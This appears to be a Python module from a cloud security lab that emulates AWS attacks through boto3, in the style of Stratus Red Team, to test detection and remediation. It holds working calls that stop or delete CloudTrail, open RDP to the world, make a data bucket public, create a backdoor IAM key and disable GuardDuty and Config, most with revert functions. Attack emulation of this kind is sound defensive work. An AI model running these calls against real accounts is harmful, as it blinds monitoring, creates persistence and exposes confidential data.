"""Attack scenarios, performed through boto3 as an attacker would (Stratus Red Team style).

Each scenario is a small function registered with ``@scenario``; it finds its target by looking
(never by hard-coded ids), acts through an attacker session, and returns a ``ScenarioResult`` that
says what it did, so tests and notebooks can check detection and remediation. Scenarios that can be
undone register a ``revert`` to put the account back.

>>> from helpers import simulate
>>> result = simulate.run("sg-open-world")                      # doctest: +SKIP
>>> result.resources["group_id"]                                 # doctest: +SKIP
'sg-...'
"""

from __future__ import annotations

import datetime as dt
import json
import random
from collections.abc import Callable
from dataclasses import asdict, dataclass, field

import requests
from botocore.exceptions import ClientError

from helpers.aws import Actor, LabSession, session, session_for
from helpers.config import Settings, get_settings

WORLD = "0.0.0.0/0"
RDP_PORT = 3389
#: Tag that marks the lab's confidential data bucket (terraform/ sets the same tag).
DATA_BUCKET_TAG = "data-classification"


class ScenarioUnavailable(RuntimeError):
    """The scenario cannot run in this world; the message says why."""


@dataclass
class ScenarioResult:
    """What a scenario did: who, from where, when, to which resources, making which events."""

    name: str
    technique: str
    actor: dict
    started: dt.datetime
    ended: dt.datetime
    events: list[str]
    resources: dict = field(default_factory=dict)
    cleaned: list[str] = field(default_factory=list)  # leftovers of earlier runs undone first

    def as_dict(self) -> dict:
        data = asdict(self)
        data["started"] = self.started.isoformat()
        data["ended"] = self.ended.isoformat()
        return data


@dataclass(frozen=True)
class Scenario:
    name: str
    technique: str
    description: str
    events: tuple[str, ...]
    run: Callable[[Context], dict]
    revert: Callable[[Context, ScenarioResult], None] | None = None
    #: Called when the scenario fails because an earlier run left something behind: undoes it
    #: as the admin and returns what it did (the scenario then runs once more), or None.
    cleanup: Callable[[Context, Exception], str | None] | None = None


@dataclass
class Context:
    """What a scenario runs with: the attacker's and the admin's sessions, and its options."""

    settings: Settings
    attacker: Actor
    admin: LabSession
    options: dict

    @property
    def session(self) -> LabSession:
        return session_for(self.attacker, self.settings)

    def actor_as(self, name: str, key_id: str, secret: str) -> Actor:
        return Actor(name, key_id, secret, self.attacker.source_ip, self.attacker.user_agent)


_SCENARIOS: dict[str, Scenario] = {}


def scenario(name: str, *, technique: str, events: tuple[str, ...], revert=None, cleanup=None):
    """Register a scenario function under ``name``; a duplicate name is an error."""

    def register(func: Callable[[Context], dict]) -> Callable[[Context], dict]:
        if name in _SCENARIOS:
            raise ValueError(f"scenario {name!r} is registered twice")
        doc = (func.__doc__ or "").strip().splitlines()
        _SCENARIOS[name] = Scenario(
            name, technique, doc[0] if doc else "", events, func, revert, cleanup
        )
        return func

    return register


def scenarios() -> list[Scenario]:
    """Every registered scenario, by name."""
    return [_SCENARIOS[n] for n in sorted(_SCENARIOS)]


def get(name: str) -> Scenario:
    if name not in _SCENARIOS:
        raise KeyError(f"unknown scenario {name!r}; known: {', '.join(sorted(_SCENARIOS))}")
    return _SCENARIOS[name]


def attacker(settings: Settings | None = None) -> Actor:
    """The attacker: the developer's stolen key, used from abroad."""
    settings = settings or get_settings()
    return Actor(
        name="attacker",
        access_key_id=settings.lab_attacker_access_key_id,
        secret_access_key=settings.lab_attacker_secret_access_key.get_secret_value(),
        source_ip=settings.lab_attacker_ip,
        user_agent=settings.lab_attacker_user_agent,
    )


def context(settings: Settings | None = None, **options) -> Context:
    settings = settings or get_settings()
    return Context(settings, attacker(settings), session(settings), options)


def run(name: str, settings: Settings | None = None, **options) -> ScenarioResult:
    """Perform one scenario and say what it did.

    >>> run("cloudtrail-stop").events                            # doctest: +SKIP
    ['StopLogging']
    """
    spec = get(name)
    ctx = context(settings, **options)
    started = _now()
    cleaned: list[str] = []
    try:
        resources = spec.run(ctx)
    except Exception as err:
        _explain_key(ctx, err)
        note = spec.cleanup(ctx, err) if spec.cleanup is not None else None
        if note is None:
            if isinstance(err, ScenarioUnavailable):
                raise
            raise ScenarioUnavailable(f"{name} failed: {err}") from err
        cleaned.append(note)
        resources = spec.run(ctx)
    actor = resources.pop("_actor", None) or ctx.attacker
    return ScenarioResult(
        name=spec.name,
        technique=spec.technique,
        actor={
            "name": actor.name,
            "accessKeyId": actor.access_key_id,
            "sourceIPAddress": actor.source_ip,
            "userAgent": actor.user_agent,
        },
        started=started,
        ended=_now(),
        events=list(resources.pop("_events", spec.events)),
        resources=resources,
        cleaned=cleaned,
    )


#: AWS error codes of a call made with a key that is no longer active.
_DEAD_KEY = {"InvalidClientTokenId", "AuthFailure", "UnrecognizedClientException",
             "InvalidAccessKeyId", "SignatureDoesNotMatch"}  # fmt: skip


def _explain_key(ctx: Context, err: Exception) -> None:
    """A failure because the attacker's stolen key was disabled says so, and how to undo it."""
    code = getattr(err, "response", {}).get("Error", {}).get("Code")
    if code in _DEAD_KEY:
        key = ctx.attacker.access_key_id
        raise ScenarioUnavailable(
            f"the attacker's stolen key {key} no longer works ({code}): the automation probably "
            "disabled it (the fix for key-from-abroad). Re-enable it with `lab rollback "
            f"access-key-used-from-unexpected-country:{key}:<account>` to attack again"
        ) from err


def _error_code(err: Exception) -> str | None:
    return getattr(err, "response", {}).get("Error", {}).get("Code")


def revert(result: ScenarioResult, settings: Settings | None = None) -> None:
    """Undo what a scenario did, as the account's admin (when the scenario can be undone)."""
    spec = get(result.name)
    if spec.revert is None:
        raise ScenarioUnavailable(f"scenario {result.name} has nothing to undo")
    spec.revert(context(settings), result)


def _now() -> dt.datetime:
    return dt.datetime.now(dt.UTC)


# -- finding targets ---------------------------------------------------------------------------
def logging_trail(lab: LabSession) -> dict:
    """The first trail that is logging (the one an attacker wants to silence)."""
    cloudtrail = lab.client("cloudtrail")
    for trail in cloudtrail.describe_trails()["trailList"]:
        if cloudtrail.get_trail_status(Name=trail["TrailARN"])["IsLogging"]:
            return trail
    raise ScenarioUnavailable("no trail is logging; start one first (StartLogging)")


def instance_group(lab: LabSession) -> tuple[str, str]:
    """(instance id, security group id) of a running instance's first group."""
    ec2 = lab.client("ec2")
    reservations = ec2.describe_instances(
        Filters=[{"Name": "instance-state-name", "Values": ["running"]}]
    )["Reservations"]
    for reservation in reservations:
        for instance in reservation["Instances"]:
            if instance.get("SecurityGroups"):
                return instance["InstanceId"], instance["SecurityGroups"][0]["GroupId"]
    raise ScenarioUnavailable("no running instance with a security group")


def data_bucket(lab: LabSession) -> str:
    """The bucket tagged as holding classified data."""
    s3 = lab.client("s3")
    for bucket in s3.list_buckets()["Buckets"]:
        try:
            tags = s3.get_bucket_tagging(Bucket=bucket["Name"])["TagSet"]
        except s3.exceptions.ClientError:
            continue
        if any(t["Key"] == DATA_BUCKET_TAG for t in tags):
            return bucket["Name"]
    raise ScenarioUnavailable(f"no bucket is tagged {DATA_BUCKET_TAG}")


def _require_local(ctx: Context, name: str, why: str) -> None:
    if not ctx.settings.local:
        raise ScenarioUnavailable(f"{name} needs the local world: {why}")


# -- scenarios ---------------------------------------------------------------------------------
def _revert_logging(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("cloudtrail").start_logging(Name=result.resources["trail_arn"])


def _restart_trail(ctx: Context, err: Exception) -> str | None:
    """An earlier run left the trail stopped or reduced: start it and restore its selectors."""
    if not isinstance(err, ScenarioUnavailable):
        return None
    cloudtrail = ctx.admin.client("cloudtrail")
    trails = cloudtrail.describe_trails()["trailList"]
    if not trails:
        raise ScenarioUnavailable(
            "no trail exists (an earlier cloudtrail-delete?): the automation recreates it, or "
            "`lab reset` starts the account afresh"
        ) from err
    arn = trails[0]["TrailARN"]
    cloudtrail.put_event_selectors(
        TrailName=arn, EventSelectors=[{"ReadWriteType": "All", "IncludeManagementEvents": True}]
    )
    cloudtrail.start_logging(Name=arn)
    return f"started {trails[0]['Name']} again (an earlier run had left it stopped)"


@scenario(
    "cloudtrail-stop",
    technique="Stratus aws.defense-evasion.cloudtrail-stop (T1562.008)",
    events=("StopLogging",),
    revert=_revert_logging,
    cleanup=_restart_trail,
)
def cloudtrail_stop(ctx: Context) -> dict:
    """Stop the trail that is logging, so what follows goes unrecorded."""
    trail = logging_trail(ctx.admin)
    ctx.session.client("cloudtrail").stop_logging(Name=trail["TrailARN"])
    return {"trail_name": trail["Name"], "trail_arn": trail["TrailARN"]}


def _revert_delete(ctx: Context, result: ScenarioResult) -> None:
    trail = result.resources["trail"]
    cloudtrail = ctx.admin.client("cloudtrail")
    options = {"S3KeyPrefix": trail["S3KeyPrefix"]} if trail.get("S3KeyPrefix") else {}
    cloudtrail.create_trail(
        Name=trail["Name"],
        S3BucketName=trail["S3BucketName"],
        IsMultiRegionTrail=trail.get("IsMultiRegionTrail", False),
        IncludeGlobalServiceEvents=trail.get("IncludeGlobalServiceEvents", True),
        **options,
    )
    cloudtrail.start_logging(Name=trail["Name"])


@scenario(
    "cloudtrail-delete",
    technique="Stratus aws.defense-evasion.cloudtrail-delete (T1562.008)",
    events=("DeleteTrail",),
    revert=_revert_delete,
    cleanup=_restart_trail,
)
def cloudtrail_delete(ctx: Context) -> dict:
    """Delete the trail that is logging."""
    trail = logging_trail(ctx.admin)
    ctx.session.client("cloudtrail").delete_trail(Name=trail["TrailARN"])
    return {"trail_name": trail["Name"], "trail_arn": trail["TrailARN"], "trail": trail}


def _revert_selectors(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("cloudtrail").put_event_selectors(
        TrailName=result.resources["trail_arn"],
        EventSelectors=[{"ReadWriteType": "All", "IncludeManagementEvents": True}],
    )


@scenario(
    "cloudtrail-event-selectors",
    technique="Stratus aws.defense-evasion.cloudtrail-event-selectors (T1562.008)",
    events=("PutEventSelectors",),
    revert=_revert_selectors,
    cleanup=_restart_trail,
)
def cloudtrail_event_selectors(ctx: Context) -> dict:
    """Keep the trail 'logging' but make it drop management events (write-only S3 data only)."""
    trail = logging_trail(ctx.admin)
    ctx.session.client("cloudtrail").put_event_selectors(
        TrailName=trail["TrailARN"],
        EventSelectors=[
            {
                "ReadWriteType": "ReadOnly",
                "IncludeManagementEvents": False,
                "DataResources": [{"Type": "AWS::S3::Object", "Values": ["arn:aws:s3"]}],
            }
        ],
    )
    return {"trail_name": trail["Name"], "trail_arn": trail["TrailARN"]}


def _revert_sg(ctx: Context, result: ScenarioResult) -> None:
    """Close the rule again; one the automation (or a person) closed already is left alone."""
    try:
        ctx.admin.client("ec2").revoke_security_group_ingress(
            GroupId=result.resources["group_id"],
            IpPermissions=[_world_rule(result.resources["port"])],
        )
    except ClientError as err:
        if err.response["Error"]["Code"] != "InvalidPermission.NotFound":
            raise


def _world_rule(port: int) -> dict:
    return {
        "IpProtocol": "tcp",
        "FromPort": port,
        "ToPort": port,
        "IpRanges": [{"CidrIp": WORLD, "Description": "temp"}],
    }


def _close_world_rule(ctx: Context, err: Exception) -> str | None:
    """An earlier run left the port open: close it, so this run opens (and records) it again."""
    if _error_code(err) != "InvalidPermission.Duplicate":
        return None
    port = int(ctx.options.get("port", RDP_PORT))
    _, group_id = instance_group(ctx.admin)
    ctx.admin.client("ec2").revoke_security_group_ingress(
        GroupId=group_id, IpPermissions=[_world_rule(port)]
    )
    return f"closed port {port} on {group_id} first (an earlier run had left it open)"


@scenario(
    "sg-open-world",
    technique="Stratus aws.exfiltration.ec2-security-group-open-port-22-ingress (T1562.007), "
    "here RDP 3389",
    events=("AuthorizeSecurityGroupIngress",),
    revert=_revert_sg,
    cleanup=_close_world_rule,
)
def sg_open_world(ctx: Context) -> dict:
    """Open RDP (3389) to 0.0.0.0/0 on the security group of a running instance."""
    port = int(ctx.options.get("port", RDP_PORT))
    instance_id, group_id = instance_group(ctx.admin)
    ctx.session.client("ec2").authorize_security_group_ingress(
        GroupId=group_id, IpPermissions=[_world_rule(port)]
    )
    return {"group_id": group_id, "instance_id": instance_id, "port": port, "cidr": WORLD}


@scenario(
    "key-from-abroad",
    technique="MITRE T1078.004 Valid Accounts: Cloud Accounts (no Stratus equivalent): "
    "a stolen key used for discovery from another country",
    events=("GetCallerIdentity", "ListBuckets", "DescribeInstances", "ListUsers"),
)
def key_from_abroad(ctx: Context) -> dict:
    """Use the developer's key from an address outside the allowed countries (discovery calls)."""
    lab = ctx.session
    lab.client("sts").get_caller_identity()
    lab.client("s3").list_buckets()
    lab.client("ec2").describe_instances()
    lab.client("iam").list_users()
    return {"access_key_id": ctx.attacker.access_key_id, "source_ip": ctx.attacker.source_ip}


def _revert_s3_public(ctx: Context, result: ScenarioResult) -> None:
    s3 = ctx.admin.client("s3")
    bucket = result.resources["bucket"]
    s3.put_bucket_acl(Bucket=bucket, ACL="private")
    s3.delete_bucket_policy(Bucket=bucket)


@scenario(
    "s3-public",
    technique="Stratus aws.exfiltration.s3-backdoor-bucket-policy (T1530)",
    events=("PutBucketAcl", "PutBucketPolicy"),
    revert=_revert_s3_public,
)
def s3_public(ctx: Context) -> dict:
    """Make the data bucket public: a public-read ACL and a ``Principal: *`` policy.

    On a real account the bucket's public access block refuses both; run
    ``s3-block-public-access-removed`` first there.
    """
    bucket = data_bucket(ctx.admin)
    s3 = ctx.session.client("s3")
    s3.put_bucket_acl(Bucket=bucket, ACL="public-read")
    policy = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "PublicRead",
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": f"arn:aws:s3:::{bucket}/*",
            }
        ],
    }
    s3.put_bucket_policy(Bucket=bucket, Policy=json.dumps(policy))
    return {"bucket": bucket, "policy": policy, "acl": "public-read"}


_BLOCK_ALL = {
    "BlockPublicAcls": True,
    "IgnorePublicAcls": True,
    "BlockPublicPolicy": True,
    "RestrictPublicBuckets": True,
}


def _revert_pab(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("s3").put_public_access_block(
        Bucket=result.resources["bucket"], PublicAccessBlockConfiguration=_BLOCK_ALL
    )


def _restore_pab(ctx: Context, err: Exception) -> str | None:
    """An earlier run left the block deleted: put it back, so this run deletes it again."""
    if _error_code(err) != "NoSuchPublicAccessBlockConfiguration":
        return None
    bucket = data_bucket(ctx.admin)
    ctx.admin.client("s3").put_public_access_block(
        Bucket=bucket, PublicAccessBlockConfiguration=_BLOCK_ALL
    )
    return f"put the public access block of {bucket} back first (an earlier run removed it)"


@scenario(
    "s3-block-public-access-removed",
    technique="MITRE T1562 Impair Defenses (no Stratus equivalent): "
    "the bucket's public access block deleted",
    events=("DeleteBucketPublicAccessBlock",),
    revert=_revert_pab,
    cleanup=_restore_pab,
)
def s3_block_public_access_removed(ctx: Context) -> dict:
    """Delete the data bucket's public access block."""
    bucket = data_bucket(ctx.admin)
    ctx.session.client("s3").delete_public_access_block(Bucket=bucket)
    return {"bucket": bucket}


def _revert_key(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("iam").delete_access_key(
        UserName=result.resources["user_name"], AccessKeyId=result.resources["access_key_id"]
    )


def _drop_backdoor_keys(ctx: Context, err: Exception) -> str | None:
    """Earlier runs left the user with two keys (IAM's limit): delete the backdoors they made."""
    user = ctx.options.get("user", "break-glass")
    if _error_code(err) != "LimitExceeded" or user != "break-glass":  # it has no key of its own
        return None
    iam = ctx.admin.client("iam")
    keys = iam.list_access_keys(UserName=user)["AccessKeyMetadata"]
    for key in keys:
        iam.delete_access_key(UserName=user, AccessKeyId=key["AccessKeyId"])
    return f"deleted {len(keys)} key(s) earlier runs had made for {user}"


@scenario(
    "access-key-for-other-user",
    technique="Stratus aws.persistence.iam-backdoor-user (T1098.001)",
    events=("CreateAccessKey",),
    revert=_revert_key,
    cleanup=_drop_backdoor_keys,
)
def access_key_for_other_user(ctx: Context) -> dict:
    """Create an access key for another user (a backdoor), by default the break-glass user."""
    user = ctx.options.get("user", "break-glass")
    key = ctx.session.client("iam").create_access_key(UserName=user)["AccessKey"]
    return {"user_name": user, "access_key_id": key["AccessKeyId"]}


@scenario(
    "console-login-no-mfa",
    technique="Stratus aws.initial-access.console-login-without-mfa (T1078.004)",
    events=("ConsoleLogin",),
)
def console_login_no_mfa(ctx: Context) -> dict:
    """Sign in to the console as an IAM user without MFA (emitted through the recorder)."""
    _require_local(ctx, "console-login-no-mfa", "console sign-ins cannot be made through the API")
    user = ctx.options.get("user", "break-glass")
    record = {
        "userIdentity": {"type": "IAMUser", "userName": user},
        "eventSource": "signin.amazonaws.com",
        "eventName": "ConsoleLogin",
        "awsRegion": "us-east-1",
        "sourceIPAddress": ctx.attacker.source_ip,
        "userAgent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "requestParameters": None,
        "responseElements": {"ConsoleLogin": "Success"},
        "additionalEventData": {
            "LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
            "MobileVersion": "No",
            "MFAUsed": "No",
        },
        "eventType": "AwsConsoleSignIn",
    }
    emitted = emit_records([record], ctx.settings)[0]
    return {"user_name": user, "event_id": emitted["eventID"]}


@scenario(
    "root-usage",
    technique="MITRE T1078.004 Valid Accounts: Cloud Accounts (no Stratus equivalent): "
    "the root user's access key used",
    events=("GetCallerIdentity", "ListBuckets"),
)
def root_usage(ctx: Context) -> dict:
    """Use the account root's access key (which should not exist) for discovery calls."""
    _require_local(ctx, "root-usage", "it uses the lab account's root key, never a real one")
    settings = ctx.settings
    root = ctx.actor_as(
        "root",
        settings.lab_root_access_key_id,
        settings.lab_root_secret_access_key.get_secret_value(),
    )
    lab = session_for(root, settings)
    lab.client("sts").get_caller_identity()
    lab.client("s3").list_buckets()
    return {"access_key_id": root.access_key_id, "_actor": root}


def _detector(lab: LabSession) -> str:
    detectors = lab.client("guardduty").list_detectors()["DetectorIds"]
    if not detectors:
        raise ScenarioUnavailable("no GuardDuty detector in this region")
    return detectors[0]


def _revert_guardduty(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("guardduty").update_detector(
        DetectorId=result.resources["detector_id"], Enable=True
    )


@scenario(
    "guardduty-disabled",
    technique="MITRE T1562.001 Impair Defenses: Disable or Modify Tools (no Stratus equivalent)",
    events=("UpdateDetector",),
    revert=_revert_guardduty,
)
def guardduty_disabled(ctx: Context) -> dict:
    """Suspend the GuardDuty detector."""
    detector = _detector(ctx.admin)
    ctx.session.client("guardduty").update_detector(DetectorId=detector, Enable=False)
    return {"detector_id": detector}


def _revert_config(ctx: Context, result: ScenarioResult) -> None:
    ctx.admin.client("config").start_configuration_recorder(
        ConfigurationRecorderName=result.resources["recorder_name"]
    )


@scenario(
    "config-stopped",
    technique="MITRE T1562.001 Impair Defenses: Disable or Modify Tools (no Stratus equivalent)",
    events=("StopConfigurationRecorder",),
    revert=_revert_config,
)
def config_stopped(ctx: Context) -> dict:
    """Stop the AWS Config recorder."""
    recorders = ctx.admin.client("config").describe_configuration_recorders()
    if not recorders["ConfigurationRecorders"]:
        raise ScenarioUnavailable("no AWS Config recorder in this region")
    name = recorders["ConfigurationRecorders"][0]["name"]
    ctx.session.client("config").stop_configuration_recorder(ConfigurationRecorderName=name)
    return {"recorder_name": name}


#: What the office does all day: reads, and a few harmless writes (tags).
_BASELINE_CALLS: list[tuple[str, str, dict]] = [
    ("ec2", "describe_instances", {}),
    ("ec2", "describe_security_groups", {}),
    ("ec2", "describe_vpcs", {}),
    ("s3", "list_buckets", {}),
    ("iam", "list_users", {}),
    ("iam", "get_account_summary", {}),
    ("cloudtrail", "describe_trails", {}),
    ("sts", "get_caller_identity", {}),
    ("guardduty", "list_detectors", {}),
    ("config", "describe_configuration_recorders", {}),
]


@scenario("baseline", technique="benign: office traffic from allowed countries", events=())
def baseline(ctx: Context) -> dict:
    """Benign traffic: N read calls (and tag updates) by the office's own identities."""
    count = int(ctx.options.get("count", 50))
    rng = random.Random(int(ctx.options.get("seed", 7)))
    offices = [ip.strip() for ip in ctx.settings.lab_office_ips.split(",") if ip.strip()]
    admin_session = ctx.admin
    creds = admin_session.boto.get_credentials()
    events = []
    clients: dict[tuple[str, str], object] = {}
    instance_id, _ = instance_group(admin_session)
    for i in range(count):
        ip = offices[i % len(offices)]
        actor = Actor(
            "office", creds.access_key, creds.secret_key, ip, "Boto3/1.44.8 office-automation"
        )
        if i % 10 == 9:
            service, method, kwargs = (
                "ec2",
                "create_tags",
                {"Resources": [instance_id], "Tags": [{"Key": "last-checked", "Value": str(i)}]},
            )
        else:
            service, method, kwargs = rng.choice(_BASELINE_CALLS)
        client = clients.get((ip, service))
        if client is None:
            client = clients[(ip, service)] = session_for(actor, ctx.settings).client(service)
        getattr(client, method)(**kwargs)
        events.append(client.meta.method_to_api_mapping[method])
    return {"count": count, "office_ips": offices, "_events": events, "_actor": actor}


def emit_records(records: list[dict], settings: Settings | None = None) -> list[dict]:
    """Hand records that no API call makes (console sign-ins) to the local recorder."""
    settings = settings or get_settings()
    endpoint = settings.require("aws_endpoint_url", "the local world's CloudTrail recorder")
    response = requests.post(
        f"{endpoint}/_lab/cloudtrail/events", json={"Records": records}, timeout=10
    )
    response.raise_for_status()
    return response.json()["Records"]


def flush(settings: Settings | None = None) -> list[str]:
    """Ask the local recorder to deliver everything now (instead of within its interval)."""
    settings = settings or get_settings()
    endpoint = settings.require("aws_endpoint_url", "the local world's CloudTrail recorder")
    response = requests.post(f"{endpoint}/_lab/cloudtrail/flush", timeout=30)
    response.raise_for_status()
    return response.json()["delivered"]
